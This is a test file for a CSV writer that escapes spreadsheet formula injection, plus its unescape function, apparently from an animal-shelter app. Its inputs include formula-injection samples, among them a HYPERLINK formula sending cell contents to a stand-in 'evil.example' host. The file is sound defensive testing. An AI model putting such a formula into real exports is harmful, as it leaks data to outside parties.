import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, formulaUnescaped } from '../../../../src/files/csv-writer';

/** The cells a spreadsheet reads from `text`. */
function cellsOf(text: string): string[][] {
  const parsed = Papa.parse<string[]>(text);
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const LEADS = [
  ['an equals sign', '='],
  ['a plus sign', '+'],
  ['a minus sign', '-'],
  ['an at sign', '@'],
  ['a tab', '\t'],
  ['a carriage return', '\r'],
] as const;

describe('csvText', () => {
  it('quotes every cell and ends rows with CRLF', () => {
    expect(
      csvText([
        ['Row', 'Name'],
        ['2', 'Smith, Bella'],
        ['3', 'Rex "the Tank"'],
        ['4', 'Two\nlines'],
      ]),
    ).toBe('"Row","Name"\r\n"2","Smith, Bella"\r\n"3","Rex ""the Tank"""\r\n"4","Two\nlines"');
  });

  it.each(LEADS)('escapes a cell that starts with %s', (_, lead) => {
    expect(csvText([[`${lead}1+1`, 'Dog']])).toBe(`"'${lead}1+1","Dog"`);
  });

  it.each(LEADS)('escapes a cell that starts with %s and holds a line break', (_, lead) => {
    // A line break at the end is a place a cell can be cut too: it gets its quote.
    expect(csvText([[`${lead}1+1\n`, 'Dog']])).toBe(`"'${lead}1+1\n'","Dog"`);
    expect(csvText([[`${lead}1+1\r\nmore`]])).toBe(`"'${lead}1+1\r\nmore"`);
    expect(csvText([[`${lead}\n`]])).toBe(`"'${lead}\n'"`);
  });

  it('escapes each cell that starts like a formula, row after row', () => {
    expect(
      csvText([
        ['Name', 'Category'],
        ['=SUM(A1)', 'Dog'],
        ['+1', '-2'],
        ['@cmd', 'Cat'],
      ]),
    ).toBe('"Name","Category"\r\n"\'=SUM(A1)","Dog"\r\n"\'+1","\'-2"\r\n"\'@cmd","Cat"');
  });

  it('escapes a formula a ";", a tab, a comma or a line break would start in a spreadsheet', () => {
    expect(csvText([['Rex;=HYPERLINK("x");', 'Rex;+1', 'Rex\t;=1']])).toBe(
      `"Rex;'=HYPERLINK(""x"");'","Rex;'+1","Rex\t;'=1"`,
    );
    // The tab after ";" is a formula sign there, and a separator in its turn.
    expect(csvText([['Rex;\t=1', 'a,-1', 'Bella\n=1+1', 'x\r@y']])).toBe(
      `"Rex;'\t'=1","a,'-1","Bella\n'=1+1","x\r'@y"`,
    );
    // Quotes of either kind before the sign are looked past.
    expect(csvText([['x;"=1', "x;'+1", 'x;"\'-1']])).toBe(`"x;'""=1","x;''+1","x;'""'-1"`);
  });

  it('escapes the end of a cell that ends at a separator, and leaves an empty cell empty', () => {
    expect(csvText([['Rex;', 'a,', 'b\t', 'c;"', '', ';']])).toBe(
      `"Rex;'","a,'","b\t'","c;'""","",";'"`,
    );
  });

  it('escapes a formula whose text holds quotes and commas', () => {
    expect(csvText([['=HYPERLINK("https://evil.example/?leak="&A1,"Dog")']])).toBe(
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Dog"")"`,
    );
  });

  it('leaves a harmless cell as it is, a formula sign anywhere but at a start included', () => {
    const harmless = ['Bella', 'a=b', 'Rex-Max', 'x+y', 'me@shelter', "'quoted", "O'Malley", '5'];
    const more = ['a; =1', 'Smith, Bella', 'a;b', 'x=y;z', "Rex;'Tiny", 'Two\nlines'];
    expect(csvText([[...harmless, ...more]])).toBe(
      [...harmless, ...more].map((cell) => `"${cell}"`).join(','),
    );
    expect(csvText([['', ' ']])).toBe('""," "');
  });

  it('writes a cell already led by a quote and a formula sign with one quote more', () => {
    expect(csvText([["'=1+1", "''-2"]])).toBe(`"''=1+1","'''-2"`);
  });
});

describe('formulaUnescaped', () => {
  it('gives back every cell exactly as it was before it was written', () => {
    const cells = [
      '=1+1',
      '+1',
      '-2',
      '@SUM(1+1)',
      '\tTab',
      '\rReturn',
      '=1+1\n',
      "'=already",
      "''-twice",
      "'quoted",
      "O'Malley",
      "'",
      'Bella',
      '',
      'Rex;=HYPERLINK("x");',
      'Rex\t;=1',
      'Rex;\t=1',
      "Rex;'=already",
      'x;"=1',
      'a,-1\n@b\r+c',
      'Rex;',
      ';',
      "Rex;'Tiny",
    ];
    const [read = []] = cellsOf(csvText([cells]));
    expect(read.map(formulaUnescaped)).toEqual(cells);
  });

  it('leaves a quote that is not at a start before a formula sign', () => {
    expect(formulaUnescaped("'Tiny")).toBe("'Tiny");
    expect(formulaUnescaped("x'=1")).toBe("x'=1");
    expect(formulaUnescaped("Rex;'Tiny")).toBe("Rex;'Tiny");
    expect(formulaUnescaped("'")).toBe("'");
  });
});
